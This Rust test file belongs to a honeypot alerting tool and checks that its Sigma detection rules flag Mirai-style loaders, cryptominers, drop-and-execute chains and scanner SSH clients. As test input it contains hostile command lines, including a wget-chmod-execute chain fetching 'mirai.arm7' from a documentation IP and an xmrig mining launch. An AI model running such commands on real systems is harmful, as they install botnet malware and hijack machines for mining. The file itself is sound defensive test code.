//! Sigma rules through `type: sigma`: the rules shipped in `rules/` load, match what they
//! are for and nothing else, with the Sigma level as severity.

#![allow(clippy::unwrap_used, clippy::expect_used)] // tests panic on failure by design

use std::path::{Path, PathBuf};

use hpti_alert::rules::{ClockMode, RuleOptions, RuleType, YamlRule, load_rules};
use hpti_core::Event;
use hpti_core::alert::{Alert, AlertRule, Severity};
use hpti_core::event::{EventKind, Protocol, Timestamp};

fn shipped() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

fn command(line: &str) -> Event {
    Event::new(
        "telnet-1",
        Protocol::Telnet,
        "198.51.100.23".parse().unwrap(),
        EventKind::CommandInput {
            command: line.into(),
        },
    )
}

fn download(url: &str) -> Event {
    Event::new(
        "ssh-1",
        Protocol::Ssh,
        "198.51.100.24".parse().unwrap(),
        EventKind::FileDownload {
            url: url.into(),
            sha256: Some("ab".repeat(32)),
            size: Some(10),
            error: None,
        },
    )
}

fn client(version: &str) -> Event {
    Event::new(
        "ssh-1",
        Protocol::Ssh,
        "198.51.100.25".parse().unwrap(),
        EventKind::ClientVersion {
            version: version.into(),
        },
    )
}

fn sigma_rule() -> YamlRule {
    let specs = load_rules(&["*.yml".to_owned()], &shipped()).unwrap();
    let spec = specs
        .into_iter()
        .find(|s| s.rule_type == RuleType::Sigma)
        .unwrap();
    assert_eq!(spec.sigma.len(), 4);
    // Every match sent on as it happens: these tests are about what matches, not about
    // folding the matches of one alert together (`realert`, tested in rules.rs).
    let mut spec = spec;
    spec.realert = std::time::Duration::ZERO;
    YamlRule::new(
        spec,
        &RuleOptions {
            clock: ClockMode::EventTime,
            state_dir: None,
        },
    )
}

fn fire(rule: &mut YamlRule, event: &Event) -> Vec<Alert> {
    let mut out = Vec::new();
    rule.observe(&event.clone().with_time(Timestamp::now()), &mut out);
    out
}

fn titles(alerts: &[Alert]) -> Vec<String> {
    let mut t: Vec<String> = alerts
        .iter()
        .map(|a| a.labels["sigma_rule"].clone())
        .collect();
    t.sort();
    t
}

#[test]
fn every_shipped_rule_loads() {
    let specs = load_rules(&["*.yml".to_owned()], &shipped()).unwrap();
    let mut names: Vec<&str> = specs.iter().map(|s| s.name.as_str()).collect();
    names.sort_unstable();
    assert_eq!(
        names,
        [
            "edge-silent",
            "honeypot-activity",
            "new-malware",
            "password-spraying",
            "sensor-quiet",
            "ssh-brute-force"
        ]
    );
    // The Sigma files named directly are rules of their own too.
    let direct = load_rules(&["sigma/*.yml".to_owned()], &shipped()).unwrap();
    assert_eq!(direct.len(), 4);
    assert!(
        direct
            .iter()
            .any(|s| s.name == "Mirai-style loader in a honeypot shell")
    );
}

#[test]
fn mirai_loaders_miners_and_drop_chains_are_recognised() {
    let mut rule = sigma_rule();
    let mirai = fire(&mut rule, &command("/bin/busybox ECCHI"));
    assert_eq!(titles(&mirai), ["Mirai-style loader in a honeypot shell"]);
    assert_eq!(mirai[0].severity, Severity::High, "the Sigma level");
    assert_eq!(mirai[0].key, "198.51.100.23", "one alert per address");
    assert_eq!(mirai[0].rule, "honeypot-activity");

    let loader = fire(
        &mut rule,
        &command(
            "cd /tmp || cd /var/run; wget http://203.0.113.9/bins/mirai.arm7; chmod 777 mirai.arm7; ./mirai.arm7 telnet",
        ),
    );
    assert_eq!(
        titles(&loader),
        [
            "Mirai-style loader in a honeypot shell",
            "Payload dropped and executed from a world-writable directory"
        ]
    );

    let miner = fire(
        &mut rule,
        &download("http://203.0.113.9/xmrig-6.21.0-linux-static-x64.tar.gz"),
    );
    assert_eq!(
        titles(&miner),
        ["Cryptominer fetched or started in a honeypot shell"]
    );
    assert_eq!(miner[0].severity, Severity::Critical);
    let started = fire(
        &mut rule,
        &command("./xmrig -o stratum+tcp://pool.example:3333 --donate-level 1"),
    );
    assert_eq!(
        titles(&started),
        ["Cryptominer fetched or started in a honeypot shell"]
    );

    let scanner = fire(&mut rule, &client("SSH-2.0-Go"));
    assert_eq!(
        titles(&scanner),
        ["SSH client of a mass scanner or brute-force tool"]
    );
    assert_eq!(scanner[0].severity, Severity::Low);

    // What an interactive user does matches nothing.
    for line in [
        "uname -a",
        "cat /proc/cpuinfo",
        "ls -la /tmp",
        "wget --help",
    ] {
        assert!(fire(&mut rule, &command(line)).is_empty(), "{line}");
    }
    assert!(fire(&mut rule, &client("SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3")).is_empty());
    assert!(fire(&mut rule, &download("http://203.0.113.9/index.html")).is_empty());
}

#[test]
fn a_bad_sigma_file_is_an_error_of_the_rule_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("bad.yml"),
        "title: x\nlogsource: {product: linux}\ndetection:\n  sel:\n    CommandLine|contains: a\n  condition: sel and (\n",
    )
    .unwrap();
    std::fs::write(
        dir.path().join("wrap.yml"),
        "name: w\ntype: sigma\nsigma: bad.yml\n",
    )
    .unwrap();
    let err = load_rules(&["wrap.yml".to_owned()], dir.path()).unwrap_err();
    assert_eq!(err.field.as_deref(), Some("sigma"), "{err}");
    assert!(err.message.contains("bad.yml"), "{err}");
    std::fs::write(
        dir.path().join("wrap.yml"),
        "name: w\ntype: sigma\nsigma: missing/*.yml\n",
    )
    .unwrap();
    let err = load_rules(&["wrap.yml".to_owned()], dir.path()).unwrap_err();
    assert!(err.message.contains("names no file"), "{err}");
}

/// Events are given to the Sigma engine with only the mapped fields when the rules read
/// nothing else: a rule on hpti's own fields, or a keyword rule, still sees them all.
#[test]
fn rules_on_hpti_s_own_fields_and_keywords_see_the_whole_event() {
    let dir = tempfile::tempdir().unwrap();
    let write = |name: &str, detection: &str| {
        std::fs::write(
            dir.path().join(name),
            format!("title: {name}\nlogsource: {{product: linux}}\ndetection:\n{detection}\nlevel: high\n"),
        )
        .unwrap();
    };
    write(
        "mapped.yml",
        "  sel:\n    CommandLine|contains: 'wget http'\n  condition: sel",
    );
    write(
        "own.yml",
        "  sel:\n    sensor: telnet-1\n    data.command|startswith: 'wget'\n  condition: sel",
    );
    write(
        "keyword.yml",
        "  words:\n    - 'bins.sh'\n  condition: words",
    );
    let rule_of = |files: &str| {
        std::fs::write(
            dir.path().join("wrap.yml"),
            format!("name: w\ntype: sigma\nsigma: [{files}]\n"),
        )
        .unwrap();
        let spec = load_rules(&["wrap.yml".to_owned()], dir.path())
            .unwrap()
            .remove(0);
        YamlRule::new(
            spec,
            &RuleOptions {
                clock: ClockMode::EventTime,
                state_dir: None,
            },
        )
    };
    let event = command("wget http://203.0.113.9/bins.sh");
    // Each alone, then together (the event given once, in full, to all three).
    assert_eq!(
        titles(&fire(&mut rule_of("mapped.yml"), &event)),
        ["mapped.yml"]
    );
    assert_eq!(titles(&fire(&mut rule_of("own.yml"), &event)), ["own.yml"]);
    assert_eq!(
        titles(&fire(&mut rule_of("keyword.yml"), &event)),
        ["keyword.yml"]
    );
    assert_eq!(
        titles(&fire(
            &mut rule_of("mapped.yml, own.yml, keyword.yml"),
            &event
        )),
        ["keyword.yml", "mapped.yml", "own.yml"]
    );
    assert!(
        fire(
            &mut rule_of("mapped.yml, own.yml, keyword.yml"),
            &command("id")
        )
        .is_empty()
    );
}
